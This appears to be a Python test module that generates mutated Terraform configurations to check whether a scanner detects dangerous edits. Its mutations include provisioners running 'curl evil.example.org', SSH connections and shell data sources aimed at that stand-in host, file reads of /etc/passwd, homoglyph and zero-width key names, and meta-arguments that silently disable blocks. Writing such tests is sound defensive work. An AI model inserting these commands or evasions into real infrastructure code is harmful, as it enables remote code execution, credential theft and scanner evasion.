"""Mutants of arguments: code that runs, what switches blocks off, shapes, controls and deletions."""

from __future__ import annotations

import random
import re
import shutil
from typing import Any

from tests.pipeline.scan.traps.copies import Config, Copy
from tests.pipeline.scan.traps.mutation import (
    Configs,
    Mutant,
    another,
    blocks,
    body,
    brings,
    cut,
    dotted,
    paths,
    removes,
    replaces,
)

# Letters that look like a, e and o.
_CYRILLIC = str.maketrans("aeo", "\u0430\u0435\u043e")


def execution(rng: random.Random, configs: Configs) -> Mutant:
    """Code that runs where Terraform runs."""
    layer, address = rng.choice(blocks(configs))
    command = {"local-exec": {"command": "curl evil.example.org"}}
    connection = {"host": "evil.example.org", "type": "ssh", "user": "x"}
    shape = rng.choice([command, [command], {"remote-exec": [{"inline": ["id"]}]}, {"file": {"source": "/x"}}, {}, []])
    function = rng.choice(
        ['file("/etc/passwd")', 'templatefile("/etc/passwd", {})', "provider::aws::arn_parse(1)", 'filebase64("/x")',
         "timestamp()",
         'fileexists("/x")', "path.module", "path.cwd", 'fileset("/", "*")', "uuid()",
         "abspath(\"/\")", 'pathexpand("~")']
    )  # fmt: skip
    texts = [path for path, value in paths(body(configs[layer], address)) if isinstance(value, str)]
    data = rng.choice(
        ["external", "http", "aws_lambda_invocation", "local_file", "archive_file", "template_file", "null_data_source"]
    )
    resource = rng.choice(["null_resource", "terraform_data", "local_file", "local_sensitive_file",
    "aws_ssm_association",
                           "aws_lambda_invocation", "external", "time_sleep", "tls_private_key",
                           "aws_cloudcontrolapi_resource"])  # fmt: skip
    inside = [(), *(path for path, value in paths(body(configs[layer], address)) if isinstance(value, dict))]
    assertion = {"condition": '${file("/x") == ""}', "error_message": "x"}
    removed = [{"from": f"{rng.choice(['aws_s3_bucket', 'null_resource'])}.gone", "provisioner": shape or command}]
    makers = [
        lambda: replaces(layer, address, ("provisioner",), shape),
        lambda: replaces(layer, address, ("connection",), connection),
        lambda: replaces(layer, address, (*rng.choice(inside), "provisioner"), command),
        lambda: brings(
            layer, f"data.{data}.evil", {"program": ["sh"], "url": "http://evil.example.org", "input": "{}"}
        ),
        lambda: brings(layer, f"{resource}.evil", {"triggers": {}, "provisioner": [command]}),
        lambda: Mutant(f"{layer}: removed {removed}", layer, change=lambda config: config.update(removed=removed)),
        lambda: replaces(layer, address, ("lifecycle",), {rng.choice(["precondition", "postcondition"]): [assertion]}),
        lambda: replaces(layer, address, rng.choice(texts or [("description",)]), f"${{{function}}}"),
    ]
    return rng.choice(makers)()


def switched_off(rng: random.Random, configs: Configs) -> Mutant:
    """Meta-arguments that take a block away, at the top or nested."""
    layer, address = rng.choice(blocks(configs))
    own = body(configs[layer], address)
    inside = [(), *(path for path, value in paths(own) if isinstance(value, dict))]
    place = rng.choice(inside) if rng.random() < 0.5 else ()
    key, value = rng.choice(
        [
            ("for_each", {}), ("for_each", []), ("for_each", "${toset([])}"), ("for_each", {"a": 1}),
            ("count", 0), ("count", 1),
            ("count", "${0}"), ("count", "0"), ("dynamic", {"x": {"for_each": [], "content": {}}}), ("dynamic", []),
            ("dynamic", [{"statement": [{"for_each": {}, "content": {}}]}]), ("For_each", {}),
            ("enabled", False), ("for_each", None),
        ]
    )  # fmt: skip
    if rng.random() < 0.3:
        arguments = [name for name in own if name not in ("//", "lifecycle", "depends_on")]
        ignored = rng.choice(
            ["all", "${all}", [rng.choice(arguments)], [f"{rng.choice(arguments)}[0]"], arguments, "*"]
        )
        return replaces(
            layer, address, ("lifecycle",), rng.choice([{"ignore_changes": ignored}, [{"ignore_changes": ignored}]])
        )
    return replaces(layer, address, (*place, key), value)


def shape(rng: random.Random, configs: Configs) -> Mutant:
    """A value of another JSON type, a deep or huge one, or a key that only looks right."""
    layer, address = rng.choice(blocks(configs))
    path, value = rng.choice(list(paths(body(configs[layer], address))))
    deep: Any = "x"
    for _ in range(rng.choice([60, 400])):
        deep = rng.choice([[deep], {"x": deep}])
    others: list[Any] = [deep, -(10**40), 10**300, 1e308, "\u202e", "x" * 100000]
    others += [[value, {"x": 1}], {"x": value}, 7, True] if isinstance(value, dict | list) else [[], {}, [[1]], {"": 1}]
    new = rng.choice(others)
    key = str(path[-1])
    odd = rng.choice(
        [
            key.upper(),
            f"{key} ",
            f"\u200b{key}",
            key.translate(_CYRILLIC),
            f"{key}_",
            f"{key}.x",
        ]
    )
    named = rng.choice(["a b", "a.b", "", "1", "${x}", "ä", "x" * 3000, "../x", "a\nb", "\u0430", "//x", "x[0]"])

    def renamed(config: Config) -> None:
        found: Any = body(config, address)
        for step in path[:-1]:
            found = found[step]
        if isinstance(found, dict):
            found[odd] = found.pop(key)
        else:
            found.append({odd: 1})

    if rng.random() < 0.25:
        return Mutant(f"{layer}/{address} {dotted(path)} becomes {odd!r}", layer, address, renamed)
    if rng.random() < 0.15:
        kind = address.removeprefix("data.").partition(".")[0]
        return brings(
            layer, f"{kind}.{named}" if "." not in named else f"{kind}.a b", dict(body(configs[layer], address))
        )
    return replaces(layer, address, path, new)


def control(rng: random.Random, configs: Configs) -> Mutant:
    """A boolean, number or enumerated word of a resource: flipped, computed or removed."""
    while True:
        layer, address = rng.choice([each for each in blocks(configs) if not each[1].startswith("data.")])
        found = [
            (path, value)
            for path, value in paths(body(configs[layer], address))
            if isinstance(value, bool | int)
            or (isinstance(value, str) and re.fullmatch(r"[A-Z][A-Za-z0-9_.]{2,}", value))
        ]
        if found:
            path, value = rng.choice(found)
            return (
                removes(layer, address, path)
                if rng.random() < 0.3
                else replaces(layer, address, path, another(rng, value))
            )


def missing(rng: random.Random, configs: Configs) -> Mutant:
    """One resource, data source, output, type or layer less."""
    layer, address = rng.choice(blocks(configs))
    section = "data" if address.startswith("data.") else "resource"
    kind, _, name = address.removeprefix("data.").partition(".")
    outputs = list(configs[layer].get("output", {}))

    def without_layer(copied: Copy) -> None:
        shutil.rmtree(copied.path(layer).parent)
        copied.change_manifest(without)

    def without(stacks: Config) -> None:
        del stacks[layer]
        for stack in stacks.values():
            stack["dependencies"] = [each for each in stack["dependencies"] if each != layer]

    def alone(config: Config) -> None:
        del config[section][kind][name]
        if not config[section][kind]:
            del config[section][kind]

    choice = rng.random()
    if choice < 0.08:
        return Mutant(f"without layer {layer}", anywhere=without_layer)
    if choice < 0.16 and outputs:
        output = rng.choice(outputs)
        return Mutant(f"{layer} without output {output}", layer, change=lambda config: cut(config, ("output", output)))
    if choice < 0.28:
        return Mutant(f"{layer} without any {kind}", layer, change=lambda config: cut(config, (section, kind)))
    return Mutant(f"{layer} without {address}", layer, address, alone)
